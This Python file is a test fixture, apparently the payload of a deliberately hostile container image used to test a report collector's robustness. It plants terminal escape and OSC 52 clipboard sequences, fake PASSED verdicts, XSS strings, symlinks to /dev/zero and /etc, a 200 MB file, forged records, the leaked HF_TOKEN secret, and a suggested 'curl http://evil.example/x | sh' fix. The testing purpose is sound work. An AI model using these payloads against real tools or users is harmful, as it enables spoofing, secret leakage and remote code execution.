"""A hostile image's payload (hostile.sif, built by ci/provision/test-images.sh): never run on a host.

Loaded at every Python start in the image through contprobe_hostile.pth; when a pytest process
ends with the results directory bound (/.contprobe-out), it plants everything issue 9 lists into
it, as a user's image could: FIFOs and links named like rank files, links to /dev/zero, to '.' and
to a host directory, a forged dated directory with a launch record claiming another image,
terminal escapes, a newline in a probe id, forged env.expected[HF_TOKEN] and binds.expected[/etc]
failures, a huge failure text, and the secret it can read from its environment.
"""
import atexit
import glob
import json
import os
import sys

OUT = "/.contprobe-out"
# XML 1.0 cannot carry ESC itself, so a rank file's escapes use the 8-bit C1 forms terminals also obey
# (CSI 0x9b, OSC 0x9d ... ST 0x9c): title, clear screen, OSC 52 clipboard, a fake green verdict,
# and a bidi override. The journal (JSON) carries the 7-bit ESC forms.
ESC = ["\x9d0;pwned\x9c", "\x9b2J\x9bH", "\x9d52;c;ZWNobyBwd25lZA==\x9c", "\x9b32mverdict: PASSED\x9b0m",
       "\u202eevil\u202c"]
ESC7 = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[32mverdict: PASSED\x1b[0m"


def _attr(s):
    return s.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace("\n", "&#10;")


def _case(probe, outcome, message, gotcha="", text=""):
    props = f'<property name="probe" value="{_attr(probe)}"/><property name="message" value="{_attr(message)}"/>'
    if gotcha:
        props += f'<property name="gotcha" value="{gotcha}"/>' \
                 f'<property name="fix" value="{_attr("curl http://evil.example/x | sh")}"/>'
    res = f'<failure message="{_attr(message)}">{_attr(text)}</failure>' if outcome == "failed" else ""
    return f'<testcase classname="hostile" name="x" time="0.1"><properties>{props}</properties>{res}</testcase>'


def plant():
    if "pytest" not in sys.modules or not os.path.isdir(OUT) or not os.access(OUT, os.W_OK):
        return
    secret = os.environ.get("HF_TOKEN", "")
    mine = sorted(glob.glob(os.path.join(OUT, "junit-r*.xml")))
    if mine:
        text = open(mine[0], encoding="utf-8").read()
        cases = [
            _case("hostile.escapes", "failed", "".join(ESC) + " look", "unknown", "".join(ESC) * 10),
            _case("hostile.newline\nverdict: PASSED (99 passed)", "failed", "newline\nverdict: PASSED"),
            _case("env.expected[HF_TOKEN]", "failed", "HF_TOKEN is not set", "env-not-passed"),
            _case("binds.expected[/etc]", "failed", "/etc does not exist here", "bind-missing"),
            _case("hostile.secret", "failed", f"token {secret} HF_TOKEN={secret}", "unknown",
                  f"Authorization: Bearer {secret}\n" + "E" * (1 << 20)),
            _case("hostile.markdown", "failed", "a|b <script>alert(1)</script> [x](javascript:alert(1))"),
        ]
        text = text.replace("</testsuite>", "".join(cases) + "</testsuite>", 1)
        with open(mine[0], "w", encoding="utf-8") as fh:
            fh.write(text)
    with open(glob.glob(os.path.join(OUT, "partial-r*.jsonl"))[0] if glob.glob(os.path.join(OUT, "partial-r*.jsonl"))
              else os.path.join(OUT, "partial-r00000-x.jsonl"), "a") as fh:
        for line in ('{"event": "done", "nodeid": "a::b", "outcome": "warning", "metric.x": NaN}',
                     json.dumps({"event": "done", "nodeid": "c::d", "outcome": "failed", "message": ESC7}),
                     '{"event": "session", "size": 99999999999}', "[" * 100000, "\xff\xfe"):
            fh.write(line + "\n")
    os.mkfifo(os.path.join(OUT, "junit-r00001-fifo.xml"))
    os.symlink("/dev/zero", os.path.join(OUT, "junit-r00002-zero.xml"))
    os.symlink("/dev/zero", os.path.join(OUT, "partial-r00002-zero.jsonl"))
    for i in range(5):
        os.symlink(".", os.path.join(OUT, f"loop{i}"))
    os.symlink("/etc", os.path.join(OUT, "hostetc"))
    with open(os.path.join(OUT, "junit-r00003-huge.xml"), "w") as fh:   # 200 MB of failure text
        fh.write('<testsuite><testcase classname="h" name="huge"><failure message="x">')
        chunk = "Segmentation fault " * 55000
        for _ in range(200):
            fh.write(chunk)
        fh.write("</failure></testcase></testsuite>")
    forged = os.path.join(OUT, "9999-12-31", "victim")
    os.makedirs(os.path.join(forged, "ranks"))
    with open(os.path.join(forged, "launch.json"), "w") as fh:
        json.dump({"format": "contprobe-launch/1", "image": "/images/victim.sif", "expected_ranks": 1,
                   "night": "9999-12-31"}, fh)
    with open(os.path.join(forged, "ranks", "junit-r00000-victim.xml"), "w") as fh:
        fh.write('<testsuite><properties><property name="image" value="/images/victim.sif"/></properties>'
                 + _case("victim.everything", "passed", "all good") + "</testsuite>")


atexit.register(plant)
